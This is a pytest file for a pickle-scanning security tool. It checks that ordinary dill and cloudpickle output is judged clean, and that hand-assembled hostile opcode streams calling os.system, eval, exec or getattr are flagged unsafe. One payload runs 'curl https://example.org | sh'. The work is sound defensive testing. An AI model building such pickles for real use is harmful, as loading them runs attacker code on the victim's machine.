"""Code that a stream carries: what its names tell, and what an ordinary one holds."""

from __future__ import annotations

import collections
import configparser
import dataclasses
import enum
import functools
import types
from typing import TYPE_CHECKING, Final

import pytest

from scanner_core.facts import Constant, Items
from scanner_core.findings import Verdict
from scanner_core.rules._carried import runners, runners_in_source
from scanner_core.scan import scan_artifact
from scanner_core.testing import assemble

if TYPE_CHECKING:
    from pathlib import Path

Code = tuple[list[str], list[Constant | Items]]


def _code(function: types.FunctionType) -> Code:
    """Return what a pickle of a function's code holds."""
    code = function.__code__
    names = Items("tuple", tuple(map(Constant, code.co_names)))
    return [*code.co_names], [Constant(code.co_code), names]


def _joins(x: str) -> str:
    import os  # noqa: PLC0415 (its name is to stand in the code)

    return os.path.join(x, "a")  # noqa: PTH118 (likewise)


def _runs(x: str) -> int:
    import os  # noqa: PLC0415 (its name is to stand in the code)

    return os.system(x)  # noqa: S605 (never called)


def _looks_up(x: str) -> object:
    import os  # noqa: PLC0415 (its name is to stand in the code)

    return getattr(os, x)


@pytest.mark.parametrize(
    "function",
    [
        _joins,
        lambda model: model.eval(),
        lambda re, text: re.compile(text),
        lambda x: getattr(x, "shape", None),
        lambda x: x.log1p().mean(),
    ],
    ids=["joins a path", "eval of a model", "compiles a pattern", "getattr", "numbers"],
)
def test_ordinary_code_runs_nothing(function: types.FunctionType) -> None:
    assert runners(*_code(function)) == []


@pytest.mark.parametrize(
    ("function", "found"),
    [
        (_runs, ["os.system"]),
        (_looks_up, ["getattr"]),
        (lambda x: eval(x), ["eval"]),  # noqa: S307, PLW0108 (never called)
        (lambda x: exec(x), ["exec"]),  # noqa: S102, PLW0108 (never called)
        (lambda: __import__("subprocess"), ["__import__"]),
        (lambda x: x.__class__.__base__.__subclasses__(), ["__subclasses__"]),
    ],
    ids=["os.system", "getattr of os", "eval", "exec", "import", "subclasses"],
)
def test_code_names_what_it_runs(
    function: types.FunctionType, found: list[str]
) -> None:
    assert runners(*_code(function)) == found


def test_eval_counts_where_the_code_cannot_be_read() -> None:
    assert runners(["eval"], [Constant("no bytes")]) == ["eval"]


def test_generated_source_may_name_no_module() -> None:
    assert runners_in_source(["def forward(self, x):\n    return x.relu()"]) == []
    assert runners_in_source(["import os\nos.system('true')"]) == ["os"]


def _ordinary() -> dict[str, object]:
    """Make things of classes that no module has, so that they have to be carried."""

    class Colour(enum.Enum):
        RED = 1

    @dataclasses.dataclass
    class Settings:
        rate: float = 0.1
        layers: list[int] = dataclasses.field(default_factory=list)

    class Plain:
        def __init__(self) -> None:
            self.factor = 2

        def times(self, x: int) -> int:
            return self.factor * x

        @property
        def twice(self) -> int:
            return 2 * self.factor

        @staticmethod
        def one() -> int:
            return 1

    def with_options(x: int = 1, *, y: int = 2) -> int:
        return x + y

    return {
        "class": Plain,
        "object": Plain(),
        "bound method": Plain().times,
        "dataclass": Settings(),
        "enumeration": Colour,
        "member": Colour.RED,
        "named tuple": collections.namedtuple("Point", "x y")(1, 2),  # noqa: PYI024 (what old code pickles)
        "partial": functools.partial(lambda x, y: x * y, 2),
        "default dict of a lambda": collections.defaultdict(lambda: 0),
        "configuration": configparser.ConfigParser(),
        "function with options": with_options,
        "view of a mapping": types.MappingProxyType({"a": 1}),
        "joins a path": _joins,
        "ellipsis": [..., NotImplemented],
    }


ORDINARY: Final = _ordinary()


NO_DILL: Final = {"enumeration", "member"}
"""Of a function's own classes, dill carries no enumeration."""


@pytest.mark.parametrize("protocol", [2, 3, 4, 5])
@pytest.mark.parametrize("recurses", [False, True], ids=["whole", "what it needs"])
@pytest.mark.parametrize("name", sorted(ORDINARY.keys() - NO_DILL))
def test_what_dill_carries_is_never_unsafe(
    name: str,
    recurses: bool,  # noqa: FBT001 (a parameter)
    protocol: int,
    tmp_path: Path,
) -> None:
    dill = pytest.importorskip("dill")
    path = tmp_path / "thing.pkl"
    path.write_bytes(dill.dumps(ORDINARY[name], protocol, recurse=recurses))

    report = scan_artifact(path).report

    assert report.verdict in {Verdict.CLEAN, Verdict.REVIEW}, report.findings


@pytest.mark.parametrize("thing", ORDINARY.values(), ids=ORDINARY)
def test_what_cloudpickle_carries_is_never_unsafe(
    thing: object, tmp_path: Path
) -> None:
    cloudpickle = pytest.importorskip("cloudpickle")
    path = tmp_path / "thing.pkl"
    path.write_bytes(cloudpickle.dumps(thing))

    report = scan_artifact(path).report

    assert report.verdict in {Verdict.CLEAN, Verdict.REVIEW}, report.findings


LOOKED_UP: Final = """
    GLOBAL 'builtins getattr'
    GLOBAL 'importlib import_module'
    UNICODE 'os'
    TUPLE1
    REDUCE
    UNICODE 'system'
"""
HOSTILE: Final = {
    "a maker of classes that calls what it is given": """
        GLOBAL 'dill._dill _create_type'
        MARK
        GLOBAL 'mine.tools run'
        UNICODE 'curl https://example.org | sh'
        TUPLE
        REDUCE
        STOP""",
    "a maker of classes that looks up": f"""
        GLOBAL 'dill._dill _create_type'
        MARK
        {LOOKED_UP}
        TUPLE
        REDUCE
        UNICODE 'true'
        TUPLE1
        REDUCE
        STOP""",
    "a short name of a type that makes code and calls it": """
        GLOBAL 'dill._dill _load_type'
        UNICODE 'FunctionType'
        TUPLE1
        REDUCE
        EMPTY_TUPLE
        REDUCE
        EMPTY_TUPLE
        REDUCE
        STOP""",
    "an evaluated representation": """
        GLOBAL 'dill._dill _eval_repr'
        UNICODE 'exit()'
        TUPLE1
        REDUCE
        STOP""",
    "an imported function, called": """
        GLOBAL 'dill._dill _import_module'
        UNICODE 'posix.system'
        TUPLE1
        REDUCE
        UNICODE 'true'
        TUPLE1
        REDUCE
        STOP""",
    "another attribute of a module": """
        GLOBAL 'builtins setattr'
        MARK
        GLOBAL 'mine tools'
        UNICODE '__class__'
        NONE
        TUPLE
        REDUCE
        STOP""",
    "a maker of arrays that calls": """
        GLOBAL 'dill._dill _create_array'
        GLOBAL 'os system'
        UNICODE 'true'
        TUPLE1
        NONE
        TUPLE3
        REDUCE
        STOP""",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_what_such_picklers_bring_can_be_misused(text: str, tmp_path: Path) -> None:
    path = tmp_path / "thing.pkl"
    path.write_bytes(assemble("\n".join(map(str.strip, text.strip().splitlines()))))

    assert scan_artifact(path).report.verdict is Verdict.UNSAFE


def _called_function(names: str, given: str) -> str:
    """Return a stream that makes a function, as cloudpickle does, and calls it."""
    numbers = "BININT1 1\n" * 6
    code = (
        f"GLOBAL 'types CodeType'\nMARK\n{numbers}SHORT_BINBYTES b'd\\x00S\\x00'\n"
        f"NONE\nTUPLE1\n{names}\nUNICODE 'x'\nTUPLE1\nTUPLE\nREDUCE\n"
    )
    made = (
        "GLOBAL 'cloudpickle.cloudpickle _make_function'\nMARK\n"
        f"{code}EMPTY_DICT\nNONE\nNONE\nNONE\nTUPLE\nREDUCE\n"
    )
    return f"PROTO 3\n{made}{given}\nTUPLE1\nREDUCE\nSTOP"


@pytest.mark.parametrize(
    ("names", "given", "verdict"),
    [
        ("EMPTY_TUPLE", "GLOBAL 'collections OrderedDict'", Verdict.REVIEW),
        ("UNICODE 'f'\nTUPLE1", "GLOBAL 'collections OrderedDict'", Verdict.UNSAFE),
        ("EMPTY_TUPLE", "GLOBAL 'builtins map'", Verdict.UNSAFE),
        ("EMPTY_TUPLE", "GLOBAL 'mine.tools run'", Verdict.UNSAFE),
    ],
    ids=["a class", "by a name", "a function that calls", "an unknown function"],
)
def test_carried_function_that_is_called_may_only_make_data(
    names: str, given: str, verdict: Verdict, tmp_path: Path
) -> None:
    path = tmp_path / "thing.pkl"
    path.write_bytes(assemble(_called_function(names, given)))

    assert scan_artifact(path).report.verdict is verdict
